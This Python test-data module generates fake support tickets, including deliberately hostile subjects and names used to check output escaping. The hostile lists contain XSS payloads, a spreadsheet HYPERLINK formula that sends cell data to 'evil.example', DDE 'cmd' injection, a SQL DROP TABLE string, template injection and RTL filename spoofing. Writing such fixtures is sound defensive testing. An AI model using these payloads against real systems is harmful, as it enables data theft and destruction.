"""Text for made-up tickets, harmless and hostile: subjects, names, tags."""

import random

SUBJECTS = (
    "Cannot log in after the password reset",
    "Invoice {n} shows the wrong amount",
    "Refund for order {n}",
    "Delivery of order {n} is late",
    "App closes when I open the calendar",
    "How do I export my contacts?",
    "Charged twice for order {n}",
    "Change of address",
    "Two-factor code never arrives",
    "Feature request: dark mode for the reports",
    "API answers 500 on /v1/orders/{n}",
    "Cancel my subscription, please",
    "Upgrade from Team to Enterprise",
    "Sync has been stuck at {p} % since Monday",
    "Wrong item in parcel {n}",
    "Where is my download link?",
    "Question about the data processing agreement",
    "Search does not find older messages",
    "Our webhook is called twice",
    "Broken screen on delivery, order {n}",
    "Rechnung {n} fehlt die Umsatzsteuer-Nummer",
    "¿Cómo cambio el idioma de la cuenta?",
    "Impossible de télécharger la facture {n}",
    "注文 {n} のキャンセルについて",
    "Re: Re: Fwd: urgent!!! order {n}",
    "Access for a new colleague",
)
HOSTILE_SUBJECTS = (
    "<script>alert('ticket')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?x="&A1,"Click here")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "{{ request.user.password }} {% csrf_token %}",
    "🔥🚀 Nothing works!!! 😡👨‍👩‍👧‍👦",
    "مشكلة في تسجيل الدخول إلى الحساب",
    "לא מצליח להתחבר לחשבון \u202etxt.exe",
    "Line one\nline two\twith a tab",
    "Very long: " + "the printer is on fire and nobody answers the phone, " * 12,
    "   ",
    "&lt;b&gt;already escaped&lt;/b&gt; & not",
    "'; DROP TABLE tickets; --",
)
FIRST_NAMES = (
    "Ana", "Ben", "Chiara", "Dmitri", "Eva", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Khadija", "Lars",
    "Mei", "Noah", "Olga", "Priya", "Quentin", "Rosa", "Samir", "Tomasz", "Uma", "Viktor", "Wanjiru", "Zoë",
)  # fmt: skip
LAST_NAMES = (
    "Abebe", "Bauer", "Costa", "Dubois", "Eriksen", "Fischer", "García", "Haddad", "Ivanova", "Jensen", "Kim",
    "López", "Müller", "Nguyen", "O'Brien", "Petrov", "Quispe", "Rossi", "Silva", "Tanaka", "Usman", "Wang",
)  # fmt: skip
HOSTILE_NAMES = (
    "<b>Bobby</b> Tables",
    '=1+1&"x"',
    "Zoë 💥 O'Neill-\u202eecnirP",
    "محمد العربي",
    "x" * 200,
)

# Each tag with the percentage of tickets that carry it.
COMMON_TAGS = (
    ("web", 30), ("email", 34), ("billing", 16), ("refund", 7), ("shipping", 11), ("login", 9), ("bug", 12),
    ("feature_request", 5), ("vip", 8), ("escalated", 4), ("spam", 2), ("german", 6), ("french", 5),
    ("spanish", 4), ("japanese", 2), ("csat_sent", 10), ("newsletter", 3), ("beta", 3), ("legacy_import", 6),
    ("priority:high", 3), ("region/emea", 9), ("region/apac", 5), ("churn_risk", 2), ("gdpr", 1),
    ("größe_prüfen", 1), ("日本語", 1), ("do_not_contact", 1), ("mobile", 8), ("first_reply_sent", 14),
)  # fmt: skip


def draw_tags(rng: random.Random, owned: tuple[tuple[str, ...], ...]) -> tuple[str, ...]:
    """Random tags for one ticket: some common ones, and one option's tag for some of the dropdowns."""
    tags = {tag for tag, percent in COMMON_TAGS if rng.random() * 100 < percent}
    tags.update(rng.choice(options) for options in owned if rng.random() < 0.45)
    return tuple(sorted(tags))


def subject(random_bits: int, ticket_id: int) -> str:
    """A subject line; about one in a hundred is hostile, to catch missing escaping."""
    if random_bits % 97 == 0:
        return HOSTILE_SUBJECTS[random_bits // 97 % len(HOSTILE_SUBJECTS)]
    return SUBJECTS[random_bits // 97 % len(SUBJECTS)].format(
        n=10_000 + ticket_id * 7 % 90_000, p=ticket_id % 100
    )


def person(number: int) -> str:
    """The name of the requester with this number."""
    if number % 61 == 7:
        return HOSTILE_NAMES[number // 61 % len(HOSTILE_NAMES)]
    return f"{FIRST_NAMES[number % len(FIRST_NAMES)]} {LAST_NAMES[number // 7 % len(LAST_NAMES)]}"
